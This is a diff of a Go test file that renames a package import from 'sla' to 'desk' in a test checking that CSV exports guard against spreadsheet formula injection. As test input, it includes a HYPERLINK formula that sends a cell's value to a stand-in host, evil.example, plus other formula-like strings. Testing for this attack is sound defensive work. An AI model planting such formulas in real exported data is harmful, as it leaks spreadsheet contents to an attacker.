@@ -10,7 +10,7 @@ import (
 	"testing"
 
 	"github.com/amends/amends/auth"
-	"github.com/amends/amends/sla"
+	"github.com/amends/amends/desk"
 	"github.com/amends/amends/templates"
 )
 
@@ -75,7 +75,7 @@ func TestCSVExportsGuardFormulas(t *testing.T) {
 	zoe := env.personToken("zoe@example.com", auth.Manager)
 	env.seedDesk(support, max)
 	pay := func() int64 {
-		var run sla.CreditRun
+		var run desk.CreditRun
 		env.api("POST", "/credit-runs", support, map[string]any{"month": "2012-12"}).expect(t, http.StatusCreated).decode(t, &run)
 		env.api("POST", fmt.Sprintf("/credit-runs/%d/request", run.ID), max, nil).expect(t, http.StatusOK)
 		env.api("POST", fmt.Sprintf("/credit-runs/%d/approve", run.ID), zoe, nil).expect(t, http.StatusOK)
@@ -87,10 +87,10 @@ func TestCSVExportsGuardFormulas(t *testing.T) {
 	second := pay()
 	formula := `=HYPERLINK("http://evil.example/?"&A1,"Refund")`
 	for _, reason := range []string{formula, "paid;=1+1", "-1 for the outage"} {
-		var m sla.ManualCredit
+		var m desk.ManualCredit
 		env.api("POST", "/manual-credits", max, map[string]any{"customer": "acme", "amount_minor": 500, "reason": reason, "service": "ELB", "month": "2012-12"}).
 			expect(t, http.StatusCreated).decode(t, &m)
-		if m.State != sla.ManualIssued {
+		if m.State != desk.ManualIssued {
 			env.api("POST", fmt.Sprintf("/manual-credits/%d/approve", m.ID), zoe, nil).expect(t, http.StatusOK)
 		}
 	}
